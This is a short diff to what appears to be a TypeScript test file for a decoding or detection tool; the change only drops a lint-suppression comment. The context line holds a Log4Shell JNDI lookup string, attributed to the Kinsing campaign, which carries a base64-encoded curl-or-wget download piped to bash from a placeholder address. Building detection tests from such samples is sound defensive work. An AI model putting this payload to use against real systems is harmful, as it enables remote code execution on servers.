@@ -7,7 +7,6 @@ export const decode: ToolCases = {
       name: 'a look-up whose path is a command of the shell',
       source: 'Kinsing against Log4j, published in December 2021',
       input:
-        // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a look-up of Log4j
         '${jndi:ldap://192.0.2.233:12344/Basic/Command/Base64/' +
         `${base64('(curl -s 192.0.2.233:5874/10.0.0.1:80||wget -q -O- 192.0.2.233:5874/10.0.0.1:80)|bash')}}`,
       ids: ['decode.download-execute', 'decode.jndi', 'decode.layer'],
